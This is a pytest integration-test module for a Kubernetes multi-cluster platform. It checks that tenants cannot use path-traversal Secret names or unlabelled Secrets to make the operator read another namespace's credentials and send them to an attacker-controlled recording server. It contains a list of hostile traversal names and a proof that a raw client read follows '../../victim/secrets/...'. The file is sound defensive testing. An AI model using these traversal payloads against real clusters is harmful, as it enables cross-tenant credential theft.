"""Issue 11, holes 1 and 3: a tenant names Secrets (and clusters, components, namespaces) it
must not reach, or Secrets it may not read itself, and has the platform send their values to a
host it controls.

The tenant here owns namespace ``tenant``; namespace ``victim`` holds another team's git token
(labelled as a git credential, so only the namespace boundary protects it). Every attack must fail
with an error naming the field, and the attacker's recording server, the objects, Events and the
operator's log must show none of the victim's values or key names.
"""

from __future__ import annotations

import asyncio
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import yaml
from lightkube import AsyncClient, Client, KubeConfig
from lightkube.core.exceptions import ApiError
from lightkube.models.meta_v1 import ObjectMeta
from lightkube.models.rbac_v1 import PolicyRule
from lightkube.resources.core_v1 import Event, Secret
from lightkube.types import PatchType

from hybridcloud.api.settings import Settings, Tier
from hybridcloud.controlplane import ControlPlane
from hybridcloud.delivery.credentials import load_git_credentials
from hybridcloud.delivery.git import SourceError
from hybridcloud.kube.references import CREDENTIAL_TYPE_LABEL, InvalidReferenceError, read_named
from hybridcloud.kube.resources import HybridClusterResource, MultiClusterApplicationResource

from ..integration.api_support import bearer, grant, identity, serve
from ..integration.harness import OperatorProcess, condition, eventually, fresh_namespace
from .attacker import RecordingServer

pytestmark = pytest.mark.integration

VICTIM_TOKEN = f"victim-{uuid.uuid4().hex}"
VICTIM_KEY = "victim-only-entry-name"  # a key name the tenant must never learn
TENANT_TOKEN = f"tenant-{uuid.uuid4().hex}"
TRAVERSALS = [
    "../deploy-token", "../../victim/secrets/deploy-token", "%2e%2e%2fdeploy-token",
    "..%2Fdeploy-token", "a/b", "Deploy-Token", "x" * 254, "", "dep\u0142oy-token",
    "\uff44\uff45\uff50\uff4c\uff4f\uff59",  # fullwidth "deploy"
    ".deploy-token", "deploy-token\n",
]


@pytest.fixture(scope="module")
def victim(kube: Client) -> Iterator[str]:
    with fresh_namespace(kube, "victim") as ns:
        kube.create(Secret(metadata=ObjectMeta(name="deploy-token",
                                               labels={CREDENTIAL_TYPE_LABEL: "git"}),
                           stringData={"token": VICTIM_TOKEN, VICTIM_KEY: VICTIM_TOKEN}),
                    namespace=ns)
        yield ns


@pytest.fixture(scope="module")
def tenant(kube: Client, victim: str) -> Iterator[str]:
    with fresh_namespace(kube, "tenant") as ns:
        yield ns


def _app(name: str, repository: str = "https://git.example.com/app.git",
         **spec: Any) -> dict[str, Any]:
    source = {"repository": repository, **spec.pop("source", {})}
    return {"apiVersion": "platform.example.com/v1", "kind": "MultiClusterApplication",
            "metadata": {"name": name},
            "spec": {"source": source, "placement": [{"cluster": "solo"}], **spec}}


def _cluster(name: str, **spec: Any) -> dict[str, Any]:
    return {"apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
            "metadata": {"name": name},
            "spec": {"provider": "aws", "region": "us-east-1", "version": "v1.30.0",
                     "nodeGroups": [{"name": "workers", "size": 1}], **spec}}


def _rejected(kube: Client, namespace: str, resource: Any, manifest: dict[str, Any]) -> str:
    """The apiserver's rejection message; fails if the object was accepted."""
    with pytest.raises(ApiError) as error:
        kube.create(resource.from_dict(manifest), namespace=namespace)
    assert error.value.status.code == 422, error.value.status.message
    return str(error.value.status.message)


def _names(kube: Client, resource: Any, namespace: str) -> set[str]:
    return {o.metadata.name for o in kube.list(resource, namespace=namespace)}


def _readable(kube: Client, namespace: str, operator: OperatorProcess | None = None) -> str:
    """Everything the tenant (or a platform operator) can read about its own objects."""
    objects = [o.to_dict() for r in (MultiClusterApplicationResource, HybridClusterResource)
               for o in kube.list(r, namespace=namespace)]
    events = [e.to_dict() for e in kube.list(Event, namespace=namespace)]
    log = operator.log.read_text(errors="replace") if operator else ""
    return yaml.safe_dump(objects) + yaml.safe_dump(events) + log


# -- hole 1: names are DNS names in the CRD schema -------------------------------------------

@pytest.mark.parametrize("name", TRAVERSALS)
def test_the_apiserver_rejects_hostile_names_in_every_reference_naming_the_field(
        kube: Client, tenant: str, name: str) -> None:
    app_fields = {
        "spec.source.secretRef.name": _app("a", source={"secretRef": {"name": name}}),
        "spec.placement[0].cluster": {**_app("a"), "spec": {**_app("a")["spec"],
                                                           "placement": [{"cluster": name}]}},
    }
    if len(name) <= 63:
        app_fields["spec.targetNamespace"] = _app("a", targetNamespace=name)
        app_fields["spec.placement[0].components[0]"] = {**_app("a"), "spec": {
            **_app("a")["spec"], "placement": [{"cluster": "solo", "components": [name]}]}}
    for field, manifest in app_fields.items():
        message = _rejected(kube, tenant, MultiClusterApplicationResource, manifest)
        assert field in message, message
    message = _rejected(kube, tenant, HybridClusterResource,
                        _cluster("c", credentialsRef={"name": name}))
    assert "spec.credentialsRef.name" in message, message
    if len(name) <= 63:
        message = _rejected(kube, tenant, HybridClusterResource,
                            _cluster("c", nodeGroups=[{"name": name, "size": 1}]))
        assert "spec.nodeGroups[0].name" in message, message
    assert "a" not in _names(kube, MultiClusterApplicationResource, tenant)
    assert "c" not in _names(kube, HybridClusterResource, tenant)


def test_the_status_cannot_point_the_operator_at_another_namespaces_cluster(
        kube: Client, tenant: str, victim: str) -> None:
    """The operator removes an app from every cluster its status lists, reading
    ``<cluster>-kubeconfig``; a tenant allowed to write the status subresource must not be able
    to aim that at another namespace's member."""
    kube.create(MultiClusterApplicationResource.from_dict(_app("status-aim")), namespace=tenant)
    traversal = f"../../{victim}/secrets/east"
    for status, field in (({"placedClusters": [traversal]}, "status.placedClusters[0]"),
                          ({"deployments": [{"cluster": traversal}]},
                           "status.deployments[0].cluster")):
        with pytest.raises(ApiError) as error:
            kube.patch(MultiClusterApplicationResource.Status, "status-aim", {"status": status},
                       namespace=tenant, patch_type=PatchType.MERGE)
        assert error.value.status.code == 422 and field in str(error.value.status.message)
    stored = kube.get(MultiClusterApplicationResource, "status-aim", namespace=tenant)
    assert victim not in yaml.safe_dump(stored.to_dict().get("status") or {})


# -- hole 1: the operator's read never leaves the namespace ----------------------------------

def _async_client(management: ControlPlane) -> AsyncClient:
    return AsyncClient(config=KubeConfig.from_file(management.kubeconfig))


def test_a_raw_read_follows_a_traversal_name_but_the_platform_read_refuses_it(
        management: ControlPlane, tenant: str, victim: str) -> None:
    traversal = f"../../{victim}/secrets/deploy-token"

    async def attempt() -> tuple[Any, BaseException | None]:
        client = _async_client(management)
        try:
            # What the hole was: the HTTP client normalises the path into the victim's Secret.
            raw = await client.get(Secret, name=traversal, namespace=tenant)
            try:
                await read_named(client, Secret, tenant, traversal,
                                 field="spec.source.secretRef.name")
                return raw, None
            except InvalidReferenceError as exc:
                return raw, exc
        finally:
            await client.close()

    raw, refused = asyncio.run(attempt())
    assert raw.metadata.namespace == victim, "the traversal no longer works; drop this proof"
    assert isinstance(refused, InvalidReferenceError)
    assert str(refused).startswith("spec.source.secretRef.name: ")
    assert VICTIM_KEY not in str(refused) and VICTIM_TOKEN not in str(refused)


@pytest.mark.parametrize("name", ["../../{victim}/secrets/deploy-token", "..%2F..%2F{victim}"
                                  "%2Fsecrets%2Fdeploy-token", "deploy-token"])
def test_git_credentials_are_never_read_from_another_namespace(
        management: ControlPlane, tenant: str, victim: str, name: str) -> None:
    name = name.format(victim=victim)

    async def attempt() -> str:
        client = _async_client(management)
        try:
            credentials = await load_git_credentials(client, tenant, name)
            return f"read credentials {credentials.identity()}"
        except SourceError as exc:
            return str(exc)
        finally:
            await client.close()

    message = asyncio.run(attempt())
    assert message.startswith("spec.source.secretRef"), message
    assert VICTIM_TOKEN not in message and VICTIM_KEY not in message


@pytest.fixture(scope="module")
def operator(management: ControlPlane, tenant: str, attacker_ca: tuple[Path, Path, Path],
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[OperatorProcess]:
    workdir: Path = tmp_path_factory.mktemp("operator-secret-refs")
    process = OperatorProcess(management.kubeconfig, tenant, workdir, env={
        "HYBRIDCLOUD_OPERATOR_DELIVERY_DIR": str(workdir / "delivery"),
        # The operator would complete TLS with the attacker: only the guard under test is left.
        "HYBRIDCLOUD_OPERATOR_GIT_CA_BUNDLE": str(attacker_ca[0]),
        "HYBRIDCLOUD_OPERATOR_GIT_INTERVAL": "600"})
    process.start()
    try:
        yield process
    finally:
        process.close()


def _stalled_app(kube: Client, namespace: str, name: str, reason: str,
                 operator: OperatorProcess) -> dict[str, Any]:
    def probe() -> dict[str, Any] | None:
        obj = kube.get(MultiClusterApplicationResource, name, namespace=namespace).to_dict()
        synced = condition(obj, "Synced") or {}
        stalled = condition(obj, "Stalled") or {}
        return dict(obj) if synced.get("reason") == reason and \
            stalled.get("status") == "True" else None

    return eventually(probe, timeout=60, message=lambda: f"{name} not stalled with {reason}: "
                      f"{kube.get(MultiClusterApplicationResource, name, namespace=namespace)}"
                      f"\n{operator.tail()}")


def test_a_valid_name_of_another_namespaces_secret_is_never_read_nor_sent(
        kube: Client, tenant: str, victim: str, operator: OperatorProcess,
        https_attacker: RecordingServer) -> None:
    kube.create(MultiClusterApplicationResource.from_dict(_app(
        "borrow", f"{https_attacker.url}/repo.git",
        source={"secretRef": {"name": "deploy-token"}})),
        namespace=tenant)
    obj = _stalled_app(kube, tenant, "borrow", "CredentialsNotFound", operator)
    assert (condition(obj, "Synced") or {})["message"] == \
        "spec.source.secretRef: Secret deploy-token not found"
    https_attacker.assert_received_none_of([VICTIM_TOKEN])
    assert https_attacker.requests == [], "nothing should be fetched without the credentials"
    readable = _readable(kube, tenant, operator)
    assert VICTIM_TOKEN not in readable and VICTIM_KEY not in readable


# -- hole 3: credential Secrets opt in; the REST caller must be allowed to read them ---------

def test_a_git_secret_without_the_opt_in_label_is_refused_and_nothing_is_sent(
        kube: Client, tenant: str, operator: OperatorProcess,
        https_attacker: RecordingServer) -> None:
    kube.create(Secret(metadata=ObjectMeta(name="unlabelled"),
                       stringData={"token": TENANT_TOKEN, "shared-db-password": TENANT_TOKEN}),
                namespace=tenant)
    kube.create(MultiClusterApplicationResource.from_dict(_app(
        "deputy", f"{https_attacker.url}/repo.git", source={"secretRef": {"name": "unlabelled"}})),
        namespace=tenant)
    obj = _stalled_app(kube, tenant, "deputy", "CredentialsNotAllowed", operator)
    message = (condition(obj, "Synced") or {})["message"]
    assert message.startswith("spec.source.secretRef.name: Secret unlabelled "), message
    assert f"{CREDENTIAL_TYPE_LABEL}=git" in message
    assert https_attacker.requests == []
    https_attacker.assert_received_none_of([TENANT_TOKEN])
    readable = _readable(kube, tenant, operator)
    assert TENANT_TOKEN not in readable and "shared-db-password" not in readable


def test_a_cloud_secret_without_the_opt_in_label_stalls_the_cluster_and_is_not_used(
        kube: Client, tenant: str, operator: OperatorProcess,
        attacker: RecordingServer) -> None:
    kube.create(Secret(metadata=ObjectMeta(name="team-cloud",
                                           labels={CREDENTIAL_TYPE_LABEL: "git"}),
                       stringData={"aws_access_key_id": "AKIAVICTIM0000000001",
                                   "aws_secret_access_key": TENANT_TOKEN,
                                   "endpoint": attacker.url}), namespace=tenant)
    kube.create(HybridClusterResource.from_dict(_cluster(
        "deputy", credentialsRef={"name": "team-cloud"})), namespace=tenant)

    def stalled() -> dict[str, Any] | None:
        obj = kube.get(HybridClusterResource, "deputy", namespace=tenant).to_dict()
        found = condition(obj, "Stalled") or {}
        return dict(found) if found.get("reason") == "CredentialsNotAllowed" else None

    def explain() -> str:
        obj = kube.get(HybridClusterResource, "deputy", namespace=tenant).to_dict()
        return f"not stalled: {obj.get('status')}\n{operator.tail()}"

    found = eventually(stalled, timeout=60, message=explain)
    assert found["status"] == "True"
    assert found["message"].startswith("spec.credentialsRef.name: Secret team-cloud ")
    assert f"{CREDENTIAL_TYPE_LABEL}=cloud" in found["message"]
    assert attacker.requests == [], "the cloud SDK must not have been pointed at the attacker"
    readable = _readable(kube, tenant, operator)
    assert TENANT_TOKEN not in readable and "AKIAVICTIM0000000001" not in readable


@pytest.fixture(scope="module")
def api(management: ControlPlane) -> Iterator[str]:
    settings = Settings(kubeconfig=str(management.kubeconfig), auth_cache_seconds=0,
                        default_tier=Tier.ENTERPRISE)
    with serve(settings) as base:
        yield base


def _deploy(api: str, token: str, namespace: str, **source: Any) -> httpx.Response:
    body = {"name": f"app-{uuid.uuid4().hex[:6]}",
            "source": {"repository": "https://git.example.com/app.git", **source},
            "placement_policy": {"strategy": "spread"}}
    return httpx.post(f"{api}/v1/multi-cluster/applications", json=body, headers=bearer(token),
                      params={"namespace": namespace}, timeout=30)


def _error(response: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["code"] == code and set(error) == {"code", "message", "details", "request_id"}
    return dict(error)


@pytest.mark.parametrize("name", TRAVERSALS)
def test_rest_rejects_hostile_names_in_bodies_naming_the_field(
        kube: Client, api: str, tenant: str, name: str) -> None:
    token = identity(kube, tenant, "names")
    cases = [({"source": {"repository": "https://git.example.com/a.git", "secret_name": name}},
              "source.secret_name"),
             ({"clusters": [{"cluster_id": name}]}, "clusters[0].cluster_id")]
    if len(name) <= 63:
        cases += [({"clusters": [{"cluster_id": "solo", "components": [name]}]},
                   "clusters[0].components[0]"), ({"namespace": name}, "namespace")]
    for extra, field in cases:
        body = {"name": "hostile", "source": {"repository": "https://git.example.com/a.git"},
                **extra}
        response = httpx.post(f"{api}/v1/multi-cluster/applications", json=body,
                              headers=bearer(token), params={"namespace": tenant}, timeout=30)
        error = _error(response, 400, "INVALID_REQUEST")
        assert error["details"]["field"] == field and error["message"].startswith(field)
    assert "hostile" not in _names(kube, MultiClusterApplicationResource, tenant)


@pytest.mark.parametrize("name", [n for n in TRAVERSALS if n and "/" not in n])
def test_rest_rejects_hostile_cluster_ids_in_paths_naming_the_parameter(
        kube: Client, api: str, tenant: str, name: str) -> None:
    token = identity(kube, tenant, "paths")
    for method, suffix in (("GET", ""), ("GET", "/applications"), ("DELETE", ""),
                           ("GET", "/workloads")):
        url = f"{api}/v1/clusters/{quote(name, safe='%')}{suffix}"
        response = httpx.request(method, url, headers=bearer(token),
                                 params={"namespace": tenant}, timeout=30)
        if response.status_code == 404:  # an encoded "/" never reaches a route
            _error(response, 404, "NOT_FOUND")
            continue
        error = _error(response, 400, "INVALID_REQUEST")
        assert error["details"]["field"] == "cluster_id", error


def test_rest_refuses_a_secret_the_caller_may_not_get_and_allows_it_once_granted(
        kube: Client, api: str, tenant: str) -> None:
    kube.create(Secret(metadata=ObjectMeta(name="ops-token",
                                           labels={CREDENTIAL_TYPE_LABEL: "git"}),
                       stringData={"token": TENANT_TOKEN}), namespace=tenant)
    token = identity(kube, tenant, "app-creator")  # may create applications, not read Secrets
    before = _names(kube, MultiClusterApplicationResource, tenant)
    error = _error(_deploy(api, token, tenant, secret_name="ops-token"), 403, "FORBIDDEN")
    assert error["details"]["field"] == "source.secret_name"
    assert error["message"].startswith("source.secret_name: ") and "ops-token" in error["message"]
    assert TENANT_TOKEN not in str(error)
    assert _names(kube, MultiClusterApplicationResource, tenant) == before, \
        "nothing may be written when the check fails"

    grant(kube, tenant, "app-creator", "read-ops-token", [
        PolicyRule(apiGroups=[""], resources=["secrets"], verbs=["get"],
                   resourceNames=["ops-token"])], binding="app-creator-reads-ops-token")
    def granted() -> httpx.Response | None:
        response = _deploy(api, token, tenant, secret_name="ops-token")
        return response if response.status_code == 201 else None

    assert eventually(granted, timeout=20, message="the grant was not honoured").json()["id"]
    # The grant names one Secret: any other is still refused.
    _error(_deploy(api, token, tenant, secret_name="other-token"), 403, "FORBIDDEN")
